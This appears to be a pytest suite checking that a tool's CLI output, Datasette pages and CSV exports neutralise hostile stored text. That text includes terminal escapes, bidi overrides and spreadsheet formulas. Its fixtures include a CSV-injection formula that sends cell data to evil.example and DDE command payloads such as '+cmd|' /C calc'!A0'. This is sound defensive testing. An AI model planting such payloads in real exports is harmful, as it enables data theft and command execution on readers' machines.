"""Hostile page text in a database, through the commands and Datasette: nothing acts on a reader.

The database is built with ``errata ingest``; then its stored text is
overwritten with what an older errata stored verbatim (today's parsers clean
text on entry: tests/parsers/test_sanitise.py): escape sequences, BEL,
backspace, CR, bidi overrides, and spreadsheet formulas. Every output a
person reads must show none of it acting: ``errata changes`` (text and
Markdown), ``current``, ``history``, and ``errata serve``'s pages and CSV
exports, fetched over HTTP from a real server on 127.0.0.1.
"""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from errata.db.pages.csvsafe import CsvRewriter, safe_cell
from tests import history
from tests.parsers.test_sanitise import ACTIVE, TERMINAL
from tests.scraper.test_serve import serving
from tests.support import run_cli

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SHOWN = re.compile(r"(?:<|\\<|&lt;)U\+202E(?:>|&gt;)evil")


@pytest.fixture
def hostile_db(tmp_path: Path) -> dict[str, str]:
    """A database of one source, two versions, its stored text then made hostile."""
    env = history.environment(tmp_path)
    page = tmp_path / "page.md"
    for at, message in (("2026-01-01", "Order not found"), ("2026-01-02", "Order not found.")):
        page.write_text(
            "## Trade\n\n| Code | Message |\n|---|---|\n"
            f"| 51603 | {message} |\n| -1013 | Filter failure |\n| 51000 | Plain |\n"
        )
        args = ["ingest", "evil-ws", str(page), "--observed-at", at]
        result = run_cli([*args, "--parser", "markdown", "--url", "https://evil.example/"], env)
        assert result.exit_code == 0, result.stderr
    with sqlite3.connect(env["ERRATA_DB"]) as db:
        db.execute(
            "UPDATE entry_versions SET message = ? || message, section = ? WHERE code = '51603'",
            [TERMINAL + " ", f"Trade {TERMINAL}"],
        )
        db.execute("UPDATE entry_versions SET message = ? WHERE code = '51000'", [FORMULA])
        db.execute(
            "UPDATE changes SET old_message = ? || old_message, new_message = ? || new_message, "
            "section = ?",
            [TERMINAL + " ", TERMINAL + " ", f"Trade {TERMINAL}"],
        )
    return env


COMMANDS = [
    pytest.param(["changes", "--format", "text"], id="changes-text"),
    pytest.param(["changes"], id="changes-markdown"),
    pytest.param(["current", "evil-ws"], id="current"),
    pytest.param(["current", "evil-ws", "--at", "2026-01-01T12:00:00Z"], id="current-at"),
    pytest.param(["history", "evil-ws", "51603"], id="history"),
]


@pytest.mark.parametrize("args", COMMANDS)
def test_commands_print_no_active_page_text(hostile_db: dict[str, str], args: list[str]) -> None:
    result = run_cli(args, hostile_db)
    assert result.exit_code == 0, result.stderr
    assert ACTIVE.search(result.stdout) is None, repr(result.stdout)
    assert SHOWN.search(result.stdout) and "not found" in result.stdout


# --- Datasette ---------------------------------------------------------------------


@pytest.fixture
def served(hostile_db: dict[str, str], tmp_path: Path) -> Iterator[tuple[httpx.Client, str]]:
    db = Path(hostile_db["ERRATA_DB"])
    with serving(db, hostile_db, tmp_path / "serve.log") as url, httpx.Client(trust_env=False, timeout=10) as client:  # fmt: skip
        yield client, url


CSV_PATHS = [
    pytest.param("/current_entries.csv", id="view"),
    pytest.param("/current_entries.csv?_stream=on&_size=1", id="view-streamed"),
    pytest.param("/entry_versions.csv?_labels=on&_dl=1", id="table-download"),
    pytest.param("/change_log.csv", id="change-log"),
    pytest.param("/as_of.csv?source=evil-ws", id="canned-query"),
    pytest.param(".csv?sql=select+code,message+from+entry_versions", id="sql"),
]


@pytest.mark.parametrize("path", CSV_PATHS)
def test_datasette_csv_runs_no_formula_and_holds_no_control(
    served: tuple[httpx.Client, str], path: str
) -> None:
    client, url = served
    response = client.get(url + path)
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.text, newline="")))  # records end in CRLF
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if ACTIVE.search(cell)]
    assert cells and not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert not any(c.startswith("-") and c != "-1013" for c in cells)  # a number stays a number
    if "entry_versions" in path or "current" in path or "as_of" in path or "sql" in path:
        assert "'" + FORMULA in cells and "-1013" in cells


PAGES = [
    pytest.param("/change_log", id="change-log"),
    pytest.param("/change_log?_errata_table=1", id="change-log-table"),
    pytest.param("/entry_versions", id="table"),
    pytest.param("/recent_changes?since=2000-01-01", id="recent-changes"),
    pytest.param("/code_history?source=evil-ws&code=51603", id="code-history"),
    pytest.param("/current_entries", id="view"),
]


@pytest.mark.parametrize("path", PAGES)
def test_datasette_pages_show_no_control_or_override(
    served: tuple[httpx.Client, str], path: str
) -> None:
    client, url = served
    response = client.get(url + path)
    assert response.status_code == 200, response.text
    assert ACTIVE.search(response.text) is None
    assert SHOWN.search(response.text)


def test_home_and_exchange_pages_show_no_control_or_override(
    served: tuple[httpx.Client, str],
) -> None:
    client, url = served
    root = url.removesuffix("/errata")
    for page in (f"{root}/", f"{root}/-/exchanges/evil"):
        response = client.get(page)
        assert response.status_code == 200 and ACTIVE.search(response.text) is None, page


# --- the CSV rewriter on its own ------------------------------------------------------

CELLS = [
    ("=1+1", "'=1+1"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("-1013", "-1013"),
    ("+5", "+5"),
    ("-0.5e3", "-0.5e3"),
    ("-", "'-"),
    ("Order not found", "Order not found"),
    ("a=b", "a=b"),
    ("", ""),
    (
        f"\x1b]0;t\x07={TERMINAL}",
        "'=" + "Order not found red ok\nfake line <U+202E>evil<U+202C> <U+2067>iso<U+2069>",
    ),
]


@pytest.mark.parametrize(("cell", "expected"), CELLS)
def test_safe_cell(cell: str, expected: str) -> None:
    assert safe_cell(cell) == expected


def test_the_rewriter_gives_the_same_csv_whatever_the_chunks() -> None:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["code", "message"])
    for n in range(300):
        writer.writerow([f"-{n}", f'={n} "quoted"\nsecond line, comma é {TERMINAL}'])
    data = out.getvalue().encode()
    whole = CsvRewriter()
    expected = whole.feed(data) + whole.close()
    for size in (1, 7, 64, 4096):
        chunked = CsvRewriter()
        pieces = [chunked.feed(data[i : i + size]) for i in range(0, len(data), size)]
        assert b"".join(pieces) + chunked.close() == expected
    rows = list(csv.reader(io.StringIO(expected.decode(), newline="")))
    assert len(rows) == 301 and rows[1][0] == "-0" and rows[1][1].startswith('\'=0 "quoted"\n')
